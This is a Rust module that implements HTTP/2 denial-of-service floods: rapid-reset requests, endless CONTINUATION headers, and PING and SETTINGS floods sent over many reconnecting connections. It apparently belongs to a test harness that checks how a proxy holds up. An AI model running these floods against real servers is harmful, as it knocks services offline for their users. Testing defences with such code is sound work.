//! Floods of HTTP/2 frames that cost the sender little.
//!
//! Each attacker sends batches at a fixed pace. One that is disconnected comes
//! back, at most 20 times a second.

use std::sync::Arc;

use anyhow::Result;
use tokio::io::AsyncWriteExt as _;
use tokio::task::JoinSet;
use tokio::time::{Duration, Instant, sleep, timeout_at};

use super::Target;
use super::frames;
use super::made::Made;
use super::socket::{Side, is_open};

/// Requests that are paid for and reset at once.
pub(super) async fn resets(target: &Arc<Target>, count: usize, until: Instant) -> Result<Made> {
    let authorization = target.attacker.clone();
    flood(target, count, until, move |batch| {
        let first = batch
            .saturating_mul(RESETS)
            .saturating_mul(2)
            .saturating_add(1);
        let ids = (first..).step_by(2).take(RESETS as usize);
        ids.flat_map(|id| {
            let request = frames::get(id, "/item", Some(&authorization));
            [request, frames::reset(id)].concat()
        })
        .collect()
    })
    .await
}

/// A head that never ends.
pub(super) async fn continuation(
    target: &Arc<Target>,
    count: usize,
    until: Instant,
) -> Result<Made> {
    flood(target, count, until, |batch| match batch {
        0 => frames::head_begun(1),
        _ => frames::continuation(1).repeat(CONTINUATIONS),
    })
    .await
}

/// PING frames.
pub(super) async fn pings(target: &Arc<Target>, count: usize, until: Instant) -> Result<Made> {
    flood(target, count, until, |_| frames::ping().repeat(CONTROLS)).await
}

/// SETTINGS frames.
pub(super) async fn settings(target: &Arc<Target>, count: usize, until: Instant) -> Result<Made> {
    flood(target, count, until, |_| {
        frames::settings(&[(frames::INITIAL_WINDOW_SIZE, 65_535)]).repeat(CONTROLS)
    })
    .await
}

/// Sends batch after batch on `count` connections; `batch` gets its number on its connection.
async fn flood(
    target: &Arc<Target>,
    count: usize,
    until: Instant,
    batch: impl Fn(u32) -> Vec<u8> + Send + Sync + 'static,
) -> Result<Made> {
    let batch = Arc::new(batch);
    let mut attackers = JoinSet::new();
    for number in 0..count {
        let (target, batch) = (Arc::clone(target), Arc::clone(&batch));
        attackers.spawn(async move {
            let attacker = target.attacker_at(number);
            let mut connections = 0_usize;
            while Instant::now() < until {
                connections = connections.saturating_add(1);
                // It fails once the proxy has had enough.
                let _disconnected = timeout_at(until, pour(&target, attacker, &*batch)).await;
                sleep(BEFORE_NEXT).await;
            }
            connections
        });
    }
    let mut connections = 0_usize;
    while let Some(ended) = attackers.join_next().await {
        connections = connections.saturating_add(ended?);
    }
    Ok(Made {
        count,
        seen: format!("{count} attackers, {connections} connections"),
    })
}

async fn pour(
    target: &Target,
    attacker: Side,
    batch: &(dyn Fn(u32) -> Vec<u8> + Send + Sync),
) -> Result<()> {
    let mut stream = attacker.connect(target.http2).await?;
    stream.write_all(&frames::preface(&[])).await?;
    let mut number = 0_u32;
    while is_open(&stream) {
        stream.write_all(&batch(number)).await?;
        number = number.saturating_add(1);
        sleep(PAUSE).await;
    }
    Ok(())
}

const RESETS: u32 = 20;
const CONTINUATIONS: usize = 8;
const CONTROLS: usize = 200;
const PAUSE: Duration = Duration::from_millis(10);
const BEFORE_NEXT: Duration = Duration::from_millis(50);
